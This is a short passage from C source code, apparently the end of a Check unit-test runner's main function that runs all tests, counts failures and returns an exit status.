	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? 0 : 1;
}
